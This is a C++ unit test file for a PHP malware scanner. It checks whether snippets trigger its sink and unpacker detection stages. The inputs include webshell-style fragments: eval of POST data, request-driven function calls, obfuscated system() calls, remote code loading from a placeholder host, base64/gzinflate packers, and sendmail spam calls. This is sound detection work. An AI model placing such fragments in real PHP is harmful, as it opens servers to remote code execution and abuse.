// Which stages the raw bytes and the code view of a file open.
#include "rules/triggers.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "rules/rule_reader.h"
#include "unit/rules/rule_dir.h"

namespace backscan::rules::testing {
namespace {

Signs signs_of(ViewKind view, std::string_view text) {
  RuleDir dir;
  dir.add("mailer/x", "{ raw: never_there }");
  const RuleSet rules = dir.load();
  Matcher matcher(rules);
  matcher.begin("a.php", text.size());
  return matcher.scan({.kind = view, .text = text});
}

Triggers of_raw(std::string_view raw) {
  return stages_of(signs_of(ViewKind::kRaw, raw));
}
Triggers of_code(std::string_view code) {
  return stages_of(kSignTag | signs_of(ViewKind::kCode, code));
}

TEST(Triggers, ThePatternsOfTheTableAreSound) {
  for (const TriggerPattern& trigger : trigger_patterns())
    EXPECT_EQ(pattern_error(std::string(trigger.pattern)), std::nullopt) << trigger.pattern;
}

TEST(Triggers, SeeEveryOpenTag) {
  for (const std::string_view raw :
       {"<?php x", "<?PHP\n", "<?= 1", "<?\nx", "<? x", "<?@x();", "<?$x=1;", "<?eval($x);",
        "<%= 1", "<script language=\"php\">", "<SCRIPT LANGUAGE = 'PHP'>"})
    EXPECT_TRUE(of_raw(raw).php_tag) << raw;
  for (const std::string_view raw : {"<?xml version", "plain", "<script>"})
    EXPECT_FALSE(of_raw(raw).php_tag) << raw;
}

TEST(Triggers, PlainCodeOpensNothing) {
  const Triggers stages = of_code(
      "<?namespace app;class model{function get($id){return$this->find($id);}}echo'mail (a "
      "letter)';"
      "$this->exec($_POST['x']);$m->mail;$pdo->exec($sql);foo::system($x);");
  EXPECT_FALSE(stages.sinks);
  EXPECT_FALSE(stages.packed);
}

TEST(Triggers, CallbacksThatStandThereOpenNothing) {
  for (const std::string_view callback :
       {"usort($rows,'by_name');", "ob_start();", "array_map('trim',$rows);",
        "array_map(fn($a)=>1,$rows);", "array_map(array($this,'one'),$rows);",
        "call_user_func([$this,'draw']);", "include abspath.$page;", "include'lib/page.php';",
        "require dirname(__file__).$page;"})
    EXPECT_FALSE(of_code("<?$page=$_GET['p'];" + std::string(callback)).sinks) << callback;
  for (const std::string_view callback :
       {"usort($rows,$by);", "usort(array('a','b'),$_GET['f']);", "ob_start($f);",
        "array_map($f,$rows);", "array_filter($rows,str_rot13('nffreg'));",
        "call_user_func(array($_GET['c'],'m'));", "call_user_func([$this,$m],1);",
        "call_user_func_array($f,$rows);", "include($page);", "require_once@$page.'.php';",
        "include base64_decode($page);", "register_shutdown_function(@$f);"})
    EXPECT_TRUE(of_code("<?$page=$_GET['p'];" + std::string(callback)).sinks) << callback;
}

TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
  for (const std::string_view code :
       {"<?mail($a,$b,$c);", "<?$m->addaddress($x);", "<?$f=fsockopen($h,25);",
        "<?eval($_POST['x']);", "<?$_GET['f']($_GET['x']);",
        "<?move_uploaded_file($_FILES['f']['tmp_name'],$p);", "<?include($_GET['p']);",
        "<?$f='mail';$f($a);", "<?eval(file_get_contents('https://a.example/b'));",
        "<?$url='http://a.example/b';copy($url,'c.php');", "<?fwrite($f,base64_decode($x));",
        "<?call_user_func_array(assert,array($_POST['x']));",
        "<?$a=$q^'>';$a=$a.'GET';$c=${$a}['c'];system($c);", "<?$n=$m;eval(${$n}['c']);",
        "<?array_intersect_ukey($a,$_POST,$f);", "<?$b='_POST';$a=$$b;$f($a['x']);",
        "<?if($a>mail($b,$c,$d))exit;"})
    EXPECT_TRUE(of_code(code).sinks) << code;
  for (const std::string_view code :
       {"<?$x=urldecode($y);assert($x instanceof A);", "<?$x=urldecode($y);assert($x->a!==1);",
        "<?$x=urldecode($y);assert(is_string($x));", "<?$x=urldecode($y);f('eval');",
        "<?$x=urldecode($y);class A{function system($x){}private function assert($x){}}",
        "<?$x='smtp://a.example';echo $x;"})
    EXPECT_FALSE(of_code(code).sinks) << code;
  for (const std::string_view code :
       {"<?$x=urldecode($y);assert($x);", "<?$x=urldecode($y);assert($x['a'].'b');",
        "<?$x=urldecode($y);assert('a');", "<?assert($_POST[5 a]);",
        "<?$x=urldecode($y);return system($x);", "<?$x=urldecode($y);$f='system';$f($x);",
        "<?fputs($f,'RCPT TO:<'.$x.'>');", "<?popen('/usr/sbin/sendmail -t','w');"})
    EXPECT_TRUE(of_code(code).sinks) << code;
}

TEST(Triggers, AMailFunctionsNameOpensTheFlowWhereANameIsCalled) {
  for (const std::string_view code :
       {"<?$row=array('mail'=>1);echo $row['mail'];", "<?$fields=['name','mail'];f($fields);"})
    EXPECT_FALSE(of_code(code).sinks) << code;
  for (const std::string_view code :
       {"<?('mail')('a','b','c');", "<?['f'=>'mail']['f']('a','b','c');", "<?$f='mail';($f)('a');",
        "<?call_user_func('mail',$a,$b,$c);", "<?register_shutdown_function('mail',$a,$b,$c);",
        "<?set_error_handler('mail');", "<?$this->f='mail';($this->f)('a','b','c');",
        "<?$this->{'mail'}('a','b');"})
    EXPECT_TRUE(of_code(code).sinks) << code;
}

TEST(Triggers, ATableOfGlobalsOpensTheUnpackerWhereSomethingRuns) {
  EXPECT_FALSE(of_code("<?echo $GLOBALS['cfg']['lang'];").packed);
  EXPECT_FALSE(of_code("<?$x=$GLOBALS['cfg']['lang'];$y($x);").packed);
  for (const std::string_view code :
       {"<?$GLOBALS['a'][3];", "<?$GLOBALS['a']['b']('c');", "<?$x=$GLOBALS['a']['b'];assert($x);",
        "<?$x=$GLOBALS['a']['b'].chr(97);$x($y);", "<?$x=base64_decode($GLOBALS['a']['b']);"})
    EXPECT_TRUE(of_code(code).packed) << code;
}

TEST(Triggers, AFormBesideAWriteOpensTheFlow) {
  const Signs form = signs_of(ViewKind::kText, "<FORM action='' method=post>");
  EXPECT_FALSE(stages_of(kSignTag | form).sinks);
  EXPECT_TRUE(stages_of(form | kSignTag | signs_of(ViewKind::kCode, "<?fwrite($f,$x);")).sinks);
}

TEST(Triggers, PackersOpenTheUnpacker) {
  for (const std::string_view code :
       {"<?eval(gzinflate(base64_decode('x')));", "<?$a='base64_decode';assert($a('x'));",
        "<?$f=fopen(__file__,'r');", "<?$\xd0\xb0=1;", "<?$GLOBALS['a']['b'](1);"})
    EXPECT_TRUE(of_code(code).packed) << code;
  EXPECT_TRUE(of_code("<?$x='" + std::string(300, 'Q') + "';").packed);
}

TEST(Triggers, ShapesOfPackersOpenTheUnpackerWhereSomethingRunsThem) {
  for (const std::string_view code : {"<?goto a1;", "<?$_=1;", "<?$f=str_replace('q','','aqb');"}) {
    EXPECT_FALSE(of_code(code).packed) << code;
    EXPECT_TRUE(of_code(std::string(code) + "$f($x);").packed) << code;
  }
  const Signs escapes =
      signs_of(ViewKind::kRaw, R"(<?php \x61\x62\x63\x64\x65\x66\x61\x62\x63\x64\x65\x66)");
  EXPECT_FALSE(stages_of(kSignTag | escapes).packed);
  EXPECT_TRUE(stages_of(kSignTag | escapes | signs_of(ViewKind::kCode, "<?eval($x);")).packed);
}

TEST(Triggers, OnlyWhatSomethingChoosesIsFollowed) {
  for (const std::string_view code :
       {"include $x;", "include_once$x;", "require find($x);", "usort($a,$f);",
        "array_filter($a['b'],$f);", "array_filter(f($a,1),$f);",
        "preg_replace_callback('/a,b/',$f,$s);", "preg_replace_callback('/'.$a.'/',$f,$s);",
        "array_walk($this->a->b,$f);", "array_udiff($a,$b,$f);", "($f)($x);", "require('log.php');",
        "${'a'}($x);", "$a->{$b}($x);"})
    EXPECT_TRUE(of_code("<?$_GET['a'];" + std::string(code)).sinks) << code;
  EXPECT_FALSE(of_code("<?$$x;$f($y);").sinks);
  for (const std::string_view code :
       {"<?$x='_GET';$$x;$f($y);", "<?$x='_';$x.='GET';$$x;$f($y);",
        "<?$x=chr($n).$m;$$x;$f($y);", "<?$x=base64_decode($n);$$x;$f($y);"})
    EXPECT_TRUE(of_code(code).sinks) << code;
  for (const std::string_view code :
       {"includes_url($x);", "include_script($x);", "usort($a,'f',$x);", "$$x;include 'lib/a.php';",
        "preg_replace_callback('/a,b/','f',$s);", "preg_replace_callback($this->a,'f',$s);",
        "if($a){$b=1;}($c)->d();"})
    EXPECT_FALSE(of_code("<?$_GET['a'];" + std::string(code)).sinks) << code;
}

}  // namespace
}  // namespace backscan::rules::testing
